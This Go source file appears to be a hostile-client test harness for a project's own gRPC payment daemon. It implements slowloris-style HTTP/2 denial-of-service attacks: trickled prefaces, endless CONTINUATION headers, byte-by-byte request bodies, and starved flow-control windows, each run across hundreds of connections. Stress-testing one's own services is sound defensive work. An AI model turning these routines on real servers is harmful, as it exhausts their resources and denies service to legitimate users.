package hostile

import (
	"context"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"

	paymentv1 "hosho/gen/payment/v1"
	"hosho/internal/wait"
)

// drip is the time from one byte to the next.
const drip = time.Second

// trickle sends bytes one by one, and over again, until nobody takes them.
func trickle(ctx context.Context, conn net.Conn, text []byte) error {
	for n := 0; ; n++ {
		if _, err := conn.Write(text[n%len(text) : n%len(text)+1]); err != nil {
			return err
		}
		if !wait.For(ctx, drip) {
			return ctx.Err()
		}
	}
}

// SlowPreface sends a byte of HTTP/2's greeting a second.
func SlowPreface(ctx context.Context, address string) error {
	return storm(ctx, address, 1000, func(ctx context.Context, conn net.Conn) error {
		return trickle(ctx, conn, []byte(http2.ClientPreface))
	})
}

// SlowHeaders greets, and then sends a byte of a call's headers a second: they never come to an end.
func SlowHeaders(ctx context.Context, address string) error {
	headers := frames(func(f *http2.Framer) error {
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request(methods[0])})
		for range 1000 {
			_ = f.WriteContinuation(1, false, block())
		}
		return nil
	})
	return storm2(ctx, address, 1000, func(ctx context.Context, c *connection) error {
		return trickle(ctx, c, headers)
	})
}

// SlowBodies sends calls whose message comes a byte a second, of each service and of paymentd's stream of commands,
// twenty on each of a hundred connections.
func SlowBodies(ctx context.Context, address string) error {
	all := append([]string{process, watch}, methods...)
	body := message(&paymentv1.GetPaymentRequest{PaymentId: string(make([]byte, 60_000))})
	return storm2(ctx, address, 100, func(ctx context.Context, c *connection) error {
		var ids []uint32
		for n := range 20 {
			id, err := c.call(request(all[n%len(all)]), false)
			if err != nil {
				return err
			}
			ids = append(ids, id)
		}
		for n := range body {
			for _, id := range ids {
				data := frames(func(f *http2.Framer) error { return f.WriteData(id, false, body[n:n+1]) })
				if err := c.write(data); err != nil {
					return err
				}
			}
			if !wait.For(ctx, drip) {
				return ctx.Err()
			}
		}
		return nil
	})
}

// SlowWindows asks a daemon to describe itself, and takes one byte of the replies a second, ten at a time on each of a
// hundred connections.
func SlowWindows(ctx context.Context, address string) error {
	services := []byte("\x00\x00\x00\x00\x02\x3a\x00")
	return storm2(ctx, address, 100, func(ctx context.Context, c *connection) error {
		var asking sync.WaitGroup
		defer asking.Wait()
		defer c.Close()
		for range 10 {
			id, err := c.call(request(reflection), false)
			if err != nil {
				return err
			}
			asking.Go(func() {
				for c.send(id, services, maxFrame) == nil {
				}
			})
		}
		for wait.For(ctx, drip) {
			wider := frames(func(f *http2.Framer) error {
				for id := uint32(1); id < 20; id += 2 {
					_ = f.WriteWindowUpdate(id, 1)
				}
				return f.WriteWindowUpdate(0, 10)
			})
			if err := c.write(wider); err != nil {
				return err
			}
		}
		return ctx.Err()
	}, noWindow)
}
